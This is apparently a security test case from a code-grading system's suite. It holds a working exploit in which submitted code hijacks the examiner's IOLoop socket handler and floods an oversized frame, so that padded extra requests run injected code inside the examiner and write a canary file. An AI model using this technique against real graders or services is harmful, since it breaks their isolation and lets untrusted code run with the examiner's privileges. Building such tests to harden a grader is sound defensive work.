# ---
# about: gives a reply larger than the examiner reads, so that the rest of it is taken for further checks
# stock: "not run: aims at our examiner"
# ---

# %% mean
import json
import os
import socket
import struct
from tornado.ioloop import IOLoop
from workshop.grading.protocol import ANSWER, MOST_ANSWER, receive_frame, send_frame

source = """
try:
    open("@CANARY@/open/escaped", "w").write("student code ran in the examiner")
except OSError:
    pass
"""
request = json.dumps({"source": source, "names": [], "folder": "/"}).encode()
frames = (struct.pack("!cI", b"R", len(request)) + request) * 5
size = 65 * 2**20 - 64  # of the last frame: spaces may follow JSON
frames += struct.pack("!cI", b"R", size) + request
blanks = b" " * 2**20
left = size - len(request)
flood = [frames, *[blanks] * (left // 2**20), b" " * (left % 2**20)]
loop = IOLoop.current()
number = next(n for n, (_, call) in loop.handlers.items() if "_answer_on" in call.__qualname__)
stream = socket.socket(fileno=os.dup(number))
plain = loop.handlers[number][1]
asked = []

def answer(*_):
    asked.append(1)
    if len(asked) > 1:
        plain()
    else:
        receive_frame(stream, MOST_ANSWER)
        send_frame(stream, ANSWER, b"".join(flood))

loop.remove_handler(number)
loop.add_handler(number, answer, loop.READ)
print("ATTACK RAN")
